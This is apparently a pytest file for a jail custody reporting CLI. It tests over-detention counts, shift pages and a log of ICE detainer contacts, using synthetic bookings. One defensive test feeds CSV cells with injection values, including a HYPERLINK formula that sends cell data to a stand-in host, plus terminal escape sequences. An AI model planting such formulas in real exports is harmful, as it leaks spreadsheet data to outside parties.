"""`custody report`: over-detention, the page for a shift, and all communication with ICE, as printed."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any, Final

import pytest

from tests.support.bookings import (
    PROFILE,
    bail_posted,
    booked,
    custody_requested,
    departed,
    ice_contacted,
    now,
)
from tests.support.deliveries import deliver_all
from tests.support.event_samples import raw
from tests.support.terminal import Command, Ran, custody
from tests.support.waiting import wait_until
from tests.support.worker_by_hand import (
    Store,
    everything_sent,
    fire_all,
    put,
    simulated_context,
    take_in,
    the_record,
)
from worker.host.wiring import open_context
from worker.settings import Settings
from worker.store.context import Context

HOUR: Final = timedelta(hours=1)
MINUTE: Final = timedelta(minutes=1)


def written(instant: datetime) -> str:
    return instant.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def sheet(ran: Ran) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(ran.out.decode(), newline="")))


def event(kind: str, booking: str, **data: Any) -> bytes:
    return raw(f"custody.{kind}.v1", data, subject=booking, id=f"{kind}-{booking}", time=written(now()))


def transferred(booking: str, at: datetime) -> bytes:
    return event("person.transferred", booking, transferred_at=written(at), to="court")


def renumbered(booking: str, new_number: str) -> bytes:
    return event("booking.renumbered", booking, new_number=new_number)


# over-detention


def test_minutes_are_counted_from_bail_or_deadline_until_the_departure_or_now(
    context: Context, ask: Command
) -> None:
    at = now()
    for booking in ("BAIL", "EARLY", "HELD", "VOID", "COURT", "OLD", "DOUBLE", "IN"):
        take_in(context, booked(booking, due_at=at + 10 * HOUR))
    take_in(context, bail_posted("BAIL", at - 3 * HOUR), departed("BAIL", at - HOUR))
    take_in(context, bail_posted("EARLY", at - HOUR), departed("EARLY", at - 2 * HOUR))
    take_in(context, event("booking.voided", "VOID", reason="mistaken"), transferred("COURT", at - HOUR))
    take_in(context, bail_posted("IN", at - 4 * HOUR - MINUTE))
    take_in(context, bail_posted("OLD", at - 2 * HOUR), renumbered("OLD", "NEW"))
    take_in(context, renumbered("DOUBLE", "HELD"))
    take_in(context, departed("NEW", at - HOUR))
    found = ask("report", "over-detention", "--json").document
    assert {person["booking"]: person["minutes"] for person in found["people"]} == {
        "BAIL": 120,
        "EARLY": 0,
        "IN": pytest.approx(241, abs=2),
        "NEW": 60,
    }
    assert found["total"]["people"] == 4
    assert found["total"]["buckets"] == {"0": 2, "2": 1, "4": 1, "12": 0, "24": 0}
    assert [group["people"] for group in found["by_station"]] == [4]
    assert [(group["basis"], group["people"]) for group in found["by_cause"]] == [("bail", 4)]
    printed = ask("report", "over-detention").out.decode()
    assert "4 people, of whom 1 still here; 3 kept for a minute or more" in printed
    assert "bail posted" in printed and "STILL HERE" in printed and "all " in printed


def test_a_period_of_local_dates_has_its_days_whole(store: Store, tmp_path: Path) -> None:
    """The night of 1 November 2026, with 25 hours: the month begins at 07:00 UTC, the day after at 08:00."""
    context = simulated_context(store, datetime(2026, 11, 2, 18, 0, tzinfo=UTC))
    instants = {
        "OCT": datetime(2026, 11, 1, 6, 59, 59, tzinfo=UTC),
        "NOV": datetime(2026, 11, 1, 7, 0, tzinfo=UTC),
        "LAST": datetime(2026, 11, 2, 7, 59, 59, tzinfo=UTC),
        "NEXT": datetime(2026, 11, 2, 8, 0, tzinfo=UTC),
    }
    for booking, at in instants.items():
        take_in(context, booked(booking, due_at=at + 30 * HOUR), bail_posted(booking, at))
    ask = partial(custody, store_url=store.url, profile=PROFILE, data_dir=str(tmp_path))

    def listed(*words: str) -> list[str]:
        return [row["booking"] for row in sheet(ask("report", "over-detention", "--csv", *words))]

    assert listed("--from", "2026-11-01", "--to", "2026-11-02") == ["LAST", "NOV"]
    assert listed("--from", "2026-11-02 00:00") == ["NEXT"]
    assert listed("--to", "2026-11-01T07:00:00Z") == ["OCT"]
    assert listed("--from", "yesterday", "--to", "today") == ["LAST", "NOV"]
    months = ask("report", "over-detention", "--json").document["by_month"]
    assert [(group["month"], group["people"]) for group in months] == [("2026-10", 1), ("2026-11", 3)]


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (("--from", "2026-11-02", "--to", "2026-11-02"), "--from must be before --to"),
        (("--from", "last week"), "--from last week: not understood"),
        (("--to", "2026-13-01"), "--to 2026-13-01: no such date"),
        (("--to", "0001-01-02"), "--to is too early"),
        (("--csv", "--json"), "choose one form"),
    ],
)
def test_a_wrong_option_is_one_line(ask: Command, words: tuple[str, ...], says: str) -> None:
    ran = ask("report", "over-detention", *words)
    assert ran.status == 2
    assert says in ran.complaint


@pytest.mark.parametrize(
    "place",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"see")',
        "+1-800",
        "-2+3",
        "@SUM(A1:A9)",
        " =1+1",
        "＝1+1",
        "quotes \" and, commas; and 'apostrophes'",
        "Cañada 77th",
    ],
)
def test_no_cell_of_the_sheet_is_a_formula_and_none_breaks_a_row(
    context: Context, ask: Command, place: str
) -> None:
    take_in(context, booked("A1", due_at=now() + HOUR, facility=place), bail_posted("A1", now()))
    [row] = sheet(ask("report", "over-detention", "--csv"))
    stored = the_record(context, "A1").facts
    assert stored is not None and stored.facility is not None
    is_formula = stored.facility.lstrip(" ").startswith(("=", "+", "-", "@", "＝"))
    assert row["facility"] == ("'" if is_formula else "") + stored.facility
    assert (row["booking"], row["cause"], row["still_here"]) == ("A1", "bail", "yes")


def test_a_sheet_escapes_what_a_terminal_acts_on_and_keeps_line_breaks_in_their_cell(
    capfdbinary: pytest.CaptureFixture[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    from worker.cli.output import print_csv

    printed = io.TextIOWrapper(io.BytesIO())
    monkeypatch.setattr("sys.stdout", printed)
    print_csv(("a", "b"), [("\t=1", "x\ny\r\nz"), ("\r=1", "\x1b[2J\u202e"), (None, 7), ("-", -7)])
    printed.buffer.seek(0)
    text = printed.buffer.read().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [
        ["a", "b"],
        ["'\t=1", "x\ny\r\nz"],
        ["'\r=1", r"\x1b[2J\u202e"],
        ["", "7"],
        ["'-", "-7"],
    ]


def test_a_picture_is_printed_as_svg(context: Context, ask: Command) -> None:
    take_in(context, booked("A1", due_at=now() + HOUR, facility="<b>&"), bail_posted("A1", now()))
    drawn = ask("report", "over-detention", "--svg").out.decode()
    assert drawn.startswith("<svg ") and drawn.endswith("</svg>\n")
    assert "&lt;b&gt;&amp;" in drawn and "<b>" not in drawn


def test_records_of_every_shard_count_and_one_that_cannot_be_read_is_named(
    store: Store, tmp_path: Path
) -> None:
    context = open_context(Settings(profile=PROFILE, shards=3), store.url)
    numbers = [f"N{number}" for number in range(30)]
    for number in numbers:
        for shard in range(3):
            put(context, booked(number, due_at=now() + HOUR), bail_posted(number, now()), shard=shard)
    take_in(context)
    owner = next(shard for shard in context.shards if store.client.exists(shard.keys.record("N7")))
    store.client.hset(owner.keys.record("N7"), "doc", b"{}")
    ask = partial(custody, store_url=store.url, profile=PROFILE, data_dir=str(tmp_path), shards="3")
    found = ask("report", "over-detention", "--json")
    assert found.document["unreadable"] == ["N7"]
    assert {person["booking"] for person in found.document["people"]} == set(numbers) - {"N7"}
    assert "1 record that cannot be read is not in the report: N7" in found.err
    assert "NOT COUNTED: 1 record that cannot be read" in ask("report", "over-detention").out.decode()
    shift = ask("report", "shift")
    assert "CANNOT BE READ, somebody may be held: N7" in " ".join(shift.out.decode().split())


def test_where_departures_are_not_reported_it_says_so(context: Context, ask: Command) -> None:
    take_in(context, booked("A1", due_at=now() + HOUR), bail_posted("A1", now() - 2 * HOUR))
    found = ask("report", "over-detention", departures_expected="false")
    assert "Departures are not reported here" in found.out.decode()
    assert "STILL HERE" not in found.out.decode()


# shift


def test_the_page_of_a_shift_has_what_happened_who_is_next_who_is_here_and_what_waits(
    store: Store, ask: Command
) -> None:
    context = open_context(Settings(profile=PROFILE, late_grace_seconds=0), store.url)
    at = now()
    take_in(context, booked("SOON", due_at=at + 2 * HOUR), booked("SOONER", due_at=at + HOUR))
    take_in(context, booked("TOMORROW", due_at=at + 30 * HOUR), ice_contacted("SOON", at))
    take_in(context, booked("LATE", due_at=at - 3 * HOUR), booked("COURT", due_at=at + HOUR))
    take_in(context, transferred("COURT", at), booked("GONE", due_at=at + HOUR))
    take_in(context, bail_posted("GONE", at), departed("GONE", at), b"not an event")
    fire_all(context)
    found = ask("report", "shift", "--json").document
    assert found["booked"] == ["COURT", "GONE", "LATE", "SOON", "SOONER", "TOMORROW"]
    assert sorted((one["booking"], one["basis"]) for one in found["released"]) == [
        ("GONE", "bail"),
        ("LATE", "deadline"),
    ]
    assert [(one["booking"], one["basis"]) for one in found["closed"]] == [("COURT", "transferred")]
    assert [(one["booking"], one["cause"]) for one in found["late"]] == [("LATE", "learned_late")]
    assert [one["booking"] for one in found["next"]] == ["SOONER", "SOON"]
    assert [one["booking"] for one in found["still_here"]] == ["LATE"]
    assert (found["held"], found["waiting"]["rejected"], found["waiting"]["alarms"]["late_on_arrival"]) == (
        3,
        1,
        1,
    )
    page = ask("report", "shift").out.decode()
    assert max(map(len, page.splitlines())) <= 80
    assert page.index("THE LAST 12 HOURS") < page.index("THE NEXT 12 HOURS: 2 to be released, of 3 held")
    assert "RELEASED AND STILL IN THE BUILDING: 1" in page
    assert "1 rejected event: `custody rejects list`" in page
    assert "ATTENTION: no worker is at work" in page


def test_a_full_shift_fits_one_page_and_says_what_is_left_out(context: Context, ask: Command) -> None:
    for number in range(60):
        booking = f"2026-{number:05}"
        take_in(context, booked(booking, due_at=now() + HOUR + number * MINUTE))
        if number >= 30:
            take_in(context, bail_posted(booking, now() - HOUR))
    page = ask("report", "shift").out.decode().splitlines()
    assert len(page) <= 66 and max(map(len, page)) <= 80
    assert "and 20 more: see `custody due`" in page
    assert "and 26 more: see `custody report over-detention`" in page


def test_a_shift_report_can_be_of_one_place(context: Context, ask: Command) -> None:
    take_in(context, booked("A1", due_at=now() + HOUR, facility="77th"), booked("A2", due_at=now() + HOUR))
    found = ask("report", "shift", "--facility", " 77TH ", "--json").document
    assert (found["booked"], [one["booking"] for one in found["next"]]) == (["A1"], ["A1"])
    assert "Nobody is at Nowhere" in ask("report", "shift", "--facility", "Nowhere").out.decode()


# ice


def contact(booking: str, at: datetime, **more: Any) -> Any:
    return ice_contacted(booking, at, requests=("hold", "release_date"), **more)


def test_each_contact_has_what_it_asked_for_and_what_was_sent_in_answer(
    context: Context, ask: Command
) -> None:
    at, due_at = now(), now() + 5 * HOUR
    take_in(context, booked("A1", due_at=due_at, facility="Secret Station"), contact("A1", at - MINUTE))
    take_in(context, ice_contacted("A1", at, requests=(), form="none", channel="phone", reply_to="ice-2"))
    take_in(context, bail_posted("A1", at))
    take_in(context, custody_requested("A1", at))
    [first, second, third] = ask("report", "ice", "--json").document["received"]
    assert {name: first[name] for name in ("booking", "kind", "channel", "form", "requests", "route")} == {
        "booking": "A1",
        "kind": "contact",
        "channel": "email",
        "form": "I-247A",
        "requests": ["hold", "release_date"],
        "route": "ice-la",
    }
    assert (first["made_at"], first["outcome"]) == (written(at - MINUTE), "ice_told")
    assert [(one["status"], one["hold_request"]) for one in first["answers"]] == [
        ("scheduled", "declined"),
        ("released", "declined"),
    ]
    assert first["answers"][0]["release_at"] == written(due_at)
    delivery = first["answers"][0]["delivery"]
    assert (delivery["committed_at"], delivery["delivered"]) == (first["received_at"], False)
    assert [(one["status"], one["hold_request"]) for one in second["answers"]] == [
        ("scheduled", "none"),
        ("released", "none"),
    ]
    assert (third["kind"], third["outcome"], third["made_at"]) == (
        "custody_request",
        "custody_refused",
        written(at),
    )
    assert [one.get("reason") for one in third["answers"]] == [None, "already_released"]
    deliver_all(context)
    delivered = ask("report", "ice", "--json").document["received"][0]["answers"]
    outcomes = [[one["outcome"] for one in answer["delivery"]["attempts"]] for answer in delivered]
    assert outcomes == [["superseded"], ["delivered"]]
    assert [answer["delivery"]["delivered"] for answer in delivered] == [False, True]
    printed = ask("report", "ice").out.decode()
    assert "2 contacts, 1 request for a person at the counter, 0 withdrawals." in printed
    assert "request to hold declined" in printed and "committed at" in printed
    assert "delivered by jail" in printed and "not sent, a newer one" in printed
    assert "Secret Station" not in printed and "badge 1" not in printed and "459PC" not in printed


def test_every_notice_to_ice_is_listed_once(context: Context, ask: Command) -> None:
    at = now()
    for booking in ("A1", "A2", "A3"):
        take_in(context, booked(booking, due_at=at + 5 * HOUR), contact(booking, at), contact(booking, at))
        take_in(context, contact(booking, at, reply_to="other"), bail_posted(booking, at))
    sent = [event for event in everything_sent(context) if event["audience"] == "ice"]
    found = ask("report", "ice", "--json").document
    answers = [answer for one in found["received"] for answer in one["answers"]]
    assert (len(answers), found["sent_on_earlier_contacts"]) == (len(sent), [])
    assert len(sheet(ask("report", "ice", "--csv"))) == len(sent)


def test_what_was_sent_on_a_contact_before_the_period_is_listed_apart(context: Context, ask: Command) -> None:
    take_in(context, booked("A1", due_at=now() + HOUR), contact("A1", now()))
    begins = context.store_now() + timedelta(milliseconds=1)
    assert wait_until(lambda: context.store_now() >= begins, 10)
    take_in(context, bail_posted("A1", now()))
    found = ask("report", "ice", "--json", "--from", written(begins)).document
    assert found["received"] == []
    [notice] = found["sent_on_earlier_contacts"]
    assert (notice["booking"], notice["status"], notice["route"]) == ("A1", "released", "ice-la")
    before = ask("report", "ice", "--json", "--to", written(begins)).document
    assert [[one["status"] for one in contact["answers"]] for contact in before["received"]] == [
        ["scheduled"]
    ]
    assert "sent on contacts made before" in ask("report", "ice", "--from", written(begins)).out.decode()


def test_a_period_is_of_the_simulated_time_on_a_simulated_store(store: Store, tmp_path: Path) -> None:
    at = datetime(2016, 11, 20, 18, 0, tzinfo=UTC)
    context = simulated_context(store, at)
    take_in(context, booked("A1", due_at=at + 60 * HOUR), contact("A1", at))
    ask = partial(custody, store_url=store.url, profile=PROFILE, data_dir=str(tmp_path))
    for words, count in (
        ((), 1),
        (("--from", "2016-11-20", "--to", "2016-11-21"), 1),
        (("--to", "2016-11-20"), 0),
    ):
        assert len(ask("report", "ice", "--json", *words).document["received"]) == count


def test_what_is_kept_for_its_booking_is_described_and_is_one_contact(context: Context, ask: Command) -> None:
    take_in(context, contact("A1", now()))
    [waiting] = ask("report", "ice", "--json").document["received"]
    assert (waiting["outcome"], waiting["form"], waiting["answers"]) == ("kept_until_booking", "I-247A", [])
    assert waiting["route"] == "ice-la"
    take_in(context, booked("A1", due_at=now() + HOUR))
    [answered] = ask("report", "ice", "--json").document["received"]
    assert (answered["outcome"], len(answered["answers"])) == ("ice_told", 1)
    assert answered["received_at"] == waiting["received_at"]


def test_a_withdrawal_and_a_contact_sent_on_to_a_new_number_are_listed(
    context: Context, ask: Command
) -> None:
    take_in(context, booked("A1", due_at=now() + HOUR), contact("A1", now()))
    take_in(context, event("ice.contact_withdrawn", "A1", withdrawn_at=written(now())))
    take_in(context, renumbered("A1", "A2"), ice_contacted("A1", now()))
    found = ask("report", "ice", "--json").document
    assert [(one["booking"], one["kind"], one["outcome"]) for one in found["received"]] == [
        ("A1", "contact", "ice_told"),
        ("A1", "withdrawal", "contact_withdrawn"),
        ("A1", "contact", "sent_on"),
        ("A2", "contact", "ice_told"),
    ]


def test_an_entry_that_was_changed_is_counted_and_said(context: Context, store: Store, ask: Command) -> None:
    take_in(context, booked("A1", due_at=now() + HOUR), contact("A1", now()))
    journal = context.shards[0].keys.journal
    [(id_, fields)] = store.client.xrevrange(journal, count=1)
    store.client.xdel(journal, id_)
    store.client.xadd(journal, {"entry": fields[b"entry"].replace(b"I-247A", b"I-247X")})
    found = ask("report", "ice", "--json")
    assert found.document["unreadable_entries"] == 1
    assert len(found.document["sent_on_earlier_contacts"]) == 1
    assert "custody audit verify" in found.err


def test_an_empty_store_is_a_report_all_the_same(ask: Command) -> None:
    for words in (("over-detention",), ("shift",), ("ice",), ("over-detention", "--csv"), ("ice", "--csv")):
        assert ask("report", *words).status == 0
    assert json.loads(ask("report", "ice", "--json").out)["received"] == []
